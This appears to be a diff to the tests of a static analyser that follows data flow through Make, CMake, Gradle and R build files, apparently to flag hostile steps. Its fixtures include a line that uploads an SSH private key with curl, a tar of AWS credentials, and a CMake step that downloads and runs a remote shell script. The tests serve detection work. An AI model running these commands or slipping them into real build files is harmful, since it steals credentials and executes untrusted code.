@@ -106,3 +106,42 @@ def test_make_recipes_are_read_with_their_variables_and_continued_lines() -> Non
         (4, "cat $HOME/.ssh/id_rsa |  curl -T - $SINK"),
         (6, "tar cf - $HOME/.aws $PWD"),
     ]
+
+
+def test_a_value_whose_block_is_left_open_holds_what_the_block_reads() -> None:
+    text = (
+        "val profile = Properties().apply {\n"
+        '    load(file("gradle.properties"))\n'
+        "    System.getenv().forEach { (k, v) -> setProperty(k, v) }\n"
+        "}\n"
+        "println(profile)\n"
+    )
+    steps = read(text, "kotlin").steps
+    assert steps[0].defines == frozenset({"profile"}) and "getenv" in steps[0].uses
+    assert [s.line for s in steps] == [1, 5]
+
+
+def test_typed_and_r_assignments_define_their_name() -> None:
+    assert read('String key = read("k");\n', "java").steps[0].defines == frozenset({"key"})
+    assert read("tmp <- tempfile()\n", "r").steps[0].defines == frozenset({"tmp"})
+
+
+def test_a_file_a_line_names_carries_from_the_line_that_writes_it_to_the_next() -> None:
+    steps = read("file(DOWNLOAD https://x.example/b.sh b.sh)\nrun(sh b.sh)\n", "cmake").steps
+    assert "b.sh" in steps[0].defines and "b.sh" in steps[1].uses
+
+
+def test_tools_run_build_files_and_start_up_files_with_their_phase() -> None:
+    phases = {
+        rel: {(p.language, p.phase) for p in embedded.pieces(rel, "x = 1\n")}
+        for rel in ("CMakeLists.txt", "cmake/Deps.cmake", "build.gradle", "app.gradle.kts",
+                    ".Rprofile", "src/Main.kt")
+    }  # fmt: skip
+    assert phases == {
+        "CMakeLists.txt": {("cmake", "build")},
+        "cmake/Deps.cmake": {("cmake", "build")},
+        "build.gradle": {("groovy", "build")},
+        "app.gradle.kts": {("kotlin", "build")},
+        ".Rprofile": {("r", "boot")},
+        "src/Main.kt": {("kotlin", "")},
+    }
